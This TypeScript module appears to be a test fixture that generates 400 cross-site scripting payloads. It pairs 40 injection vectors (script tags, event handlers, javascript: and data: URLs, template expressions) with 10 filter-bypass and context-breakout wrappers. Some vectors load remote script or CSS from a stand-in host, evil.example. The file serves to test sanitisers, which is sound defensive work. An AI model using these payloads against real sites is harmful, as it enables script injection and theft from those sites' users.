/** The name of the function that a payload calls when it is interpreted as code or markup. */
export const executedName = "executed";

const call = `${executedName}()`;

const vectors = [
  `<script>${call}</script>`,
  "<script src=//evil.example/x.js></script>",
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href='data:text/html,<script>${call}</script>'>x</a>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<math><mtext><script>${call}</script></mtext></math>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  "<base href=//evil.example/>",
  `<template><script>${call}</script></template>`,
  `<noscript><img src=x onerror=${call}></noscript>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<div style="background:url(//evil.example/x.png)" onmouseover=${call}>`,
  `<p id=x tabindex=1 onfocus=${call}>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `[x](javascript:${call})`,
  `![x](x" onerror="${call})`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `';${call};//`,
  `";${call};//`,
  `https://example.org/"onmouseover="${call}`,
  `https://user@evil.example/#<img src=x onerror=${call}>`,
];

/** Ways to break out of a context, or to bypass filters for markup. */
const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `--></script>${vector}`,
  (vector) => `</textarea></title></style>${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => vector.replace(/<(\/?)(\w+)/g, (_, slash, tag) => `<${slash}${String(tag).toUpperCase()}`),
  (vector) => vector.replace(/(script|javascript|on)/i, "$1\u200b"),
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => encodeURIComponent(vector),
];

/** 400 texts that would run as script, or fetch from elsewhere, if interpreted as markup or an address. */
export const scriptPayloads: readonly string[] = disguises.flatMap((disguise) => vectors.map(disguise));
